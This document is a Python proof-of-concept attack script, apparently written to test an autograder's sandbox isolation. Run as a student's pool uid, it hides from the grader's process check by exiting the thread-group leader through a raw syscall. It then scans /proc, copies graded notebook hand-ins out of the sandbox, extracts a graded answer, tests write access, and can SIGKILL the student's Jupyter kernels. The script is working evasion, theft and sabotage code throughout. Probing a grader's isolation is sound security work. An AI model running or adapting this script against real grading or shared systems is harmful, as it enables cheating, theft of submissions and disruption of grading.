# The local student's account (uid given as argv[1], a pool uid with no passwd entry), run as:
#   setpriv --reuid=U --regid=U --clear-groups /usr/bin/python3 a2_attacker.py U OUTDIR SECONDS
# Hides from the grader's pool check (thread-group leader exits: /proc/<pid>/stat says Z), then watches for
# sandbox processes of its own uid that belong to the grading run of CLONE (and nothing else),
# reads the graded hand-in out of the sandbox, and SIGKILLs the student's kernel each time one appears.
import ctypes, os, signal, sys, threading, time, hashlib, json

UID, OUT, SECONDS = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])
MINE = b"CLONE/"  # only the grading run of this checkout (never another tester's)
log = open(os.path.join(OUT, "attacker.log"), "a", buffering=1)

def say(*a):
    log.write(time.strftime("%H:%M:%S ") + " ".join(str(x) for x in a) + "\n")

def cmdline(pid):
    try:
        return open(f"/proc/{pid}/cmdline", "rb").read()
    except OSError:
        return b""

def ours(pid):
    for _ in range(12):
        if MINE in cmdline(pid):
            return True
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except Exception:
            return False
        if pid <= 1:
            return False
    return False

def work():
    say("attacker uid", os.getuid(), os.geteuid(), "leader pid", os.getpid(), "hidden; watching")
    seen, stolen, kills = set(), set(), 0
    end = time.time() + SECONDS
    while time.time() < end:
        for e in os.listdir("/proc"):
            if not e.isdigit() or int(e) == os.getpid():
                continue
            pid = int(e)
            try:
                if os.stat(f"/proc/{pid}").st_uid != UID:
                    continue
                comm = open(f"/proc/{pid}/comm").read().strip()
            except OSError:
                continue
            if not ours(pid):
                continue
            cl = cmdline(pid)
            if pid not in seen:
                seen.add(pid)
                say("sandbox process of my uid:", pid, comm, cl[:120])
            if b"signal.pause" in cl and comm == "python" and pid not in stolen:  # the placeholder, inside the sandbox
                stolen.add(pid)
                try:
                    cwd = f"/proc/{pid}/cwd"
                    say("placeholder", pid, "cwd", os.readlink(cwd), "holds", sorted(os.listdir(cwd)))
                    say("  its /tmp:", sorted(os.listdir(f"/proc/{pid}/root/tmp")))
                except OSError as exc:
                    say("placeholder", pid, "not readable:", exc); continue
                for f in os.listdir(cwd):
                    if f.endswith(".ipynb"):
                        p = os.path.join(cwd, f)
                        data = open(p, "rb").read()
                        dst = os.path.join(OUT, f"stolen-{pid}-{f}")
                        open(dst, "wb").write(data)
                        nb = json.loads(data)
                        sol = [c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "partition_layers"]
                        say("READ hand-in", os.readlink(cwd) + "/" + f, len(data), "bytes sha256", hashlib.sha256(data).hexdigest()[:16], "->", dst)
                        say("  partition_layers answer:", repr("".join(sol[0]["source"])[-300:]) if sol else None)
                        try:
                            with open(p, "r+b"):
                                say("  and it is writable by me")
                        except OSError as exc:
                            say("  not writable:", exc)
            if comm == "ipykernel" and KILL and time.time() - first.setdefault(pid, time.time()) > DELAY:
                try:
                    os.kill(pid, signal.SIGKILL); kills += 1
                    say("SIGKILL sent to the student's kernel", pid, "(kill", kills, ")")
                except OSError as exc:
                    say("kill refused", pid, exc)
        time.sleep(0.05)
    say("done; kills", kills)
    os._exit(0)

KILL = len(sys.argv) > 4 and sys.argv[4].startswith("kill")
DELAY = float(sys.argv[4][5:] or 0) if KILL and ":" in sys.argv[4] else 0.0
first = {}
threading.Thread(target=work).start()
time.sleep(0.2)
if "nohide" not in sys.argv:
    ctypes.CDLL(None).syscall(60, 0)  # SYS_exit of the leader only
